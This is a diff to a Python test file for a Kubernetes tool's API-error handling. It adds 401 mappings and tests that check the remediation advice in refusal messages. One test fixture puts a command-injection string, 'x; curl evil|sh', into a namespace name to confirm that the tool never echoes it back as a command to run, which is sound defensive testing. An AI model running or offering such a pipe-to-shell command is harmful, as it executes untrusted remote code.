@@ -48,6 +48,16 @@ MEANINGS: dict[str, tuple[FarletError, Step, Reason | None]] = {
         Step.NAMESPACE,
         Reason.FOREIGN_FORBIDDEN,
     ),
+    "credentials that are not accepted": (
+        _api(errors.ApiError, 401, "Unauthorized", reason="Unauthorized"),
+        Step.MIRROR,
+        Reason.FOREIGN_UNAUTHORIZED,
+    ),
+    "credentials that are not accepted in the namespace": (
+        _api(errors.ApiError, 401, "Unauthorized", reason="Unauthorized"),
+        Step.NAMESPACE,
+        Reason.FOREIGN_UNAUTHORIZED,
+    ),
     "a security policy": (
         _api(errors.Forbidden, 403, _SECURITY, reason="Forbidden"),
         Step.MIRROR,
@@ -131,6 +141,46 @@ def test_the_server_s_message_is_kept(err: FarletError, step: Step) -> None:
     assert refused is not None
     words = err.cause if isinstance(err, errors.Unreachable) else str(getattr(err, "message", err))
     assert words in refused.message
+
+
+_PREPARE = (
+    "kubectl create namespace default-h; kubectl apply -n default-h "
+    "-f manifests/foreign/offloaded-namespace.yaml"
+)
+_HOSTILE = (
+    'pods is forbidden: User "farlet" cannot create resource "pods" in API group "" in the '
+    'namespace "x; curl evil|sh"'
+)
+
+ADVICE: dict[str, tuple[FarletError, str]] = {
+    "credentials: the Secret": (
+        _api(errors.ApiError, 401, "Unauthorized", reason="Unauthorized"),
+        "into the Secret farlet-foreign",
+    ),
+    "a missing right: verb and resource": (
+        _api(errors.Forbidden, 403, _RBAC, reason="Forbidden"),
+        "not allowed to create pods in the foreign namespace default-h, or the namespace does not",
+    ),
+    "a missing right: both commands": (
+        _api(errors.Forbidden, 403, _RBAC, reason="Forbidden"),
+        _PREPARE,
+    ),
+    "a missing namespace: both commands": (
+        _api(errors.NotFound, 404, 'namespaces "default-h" not found'),
+        _PREPARE,
+    ),
+    "a namespace that is not a name: no command with it": (
+        _api(errors.Forbidden, 403, _HOSTILE, reason="Forbidden"),
+        "Apply manifests/foreign/offloaded-namespace.yaml to the foreign namespace",
+    ),
+}
+
+
+@pytest.mark.parametrize(("err", "advice"), ADVICE.values(), ids=ADVICE)
+def test_the_message_says_what_to_do(err: FarletError, advice: str) -> None:
+    refused = api_refusals.of(err, step=Step.NAMESPACE)
+    assert refused is not None
+    assert advice in refused.message
 
 
 _UNRELATED = "no relationship found between node 'far' and this object"
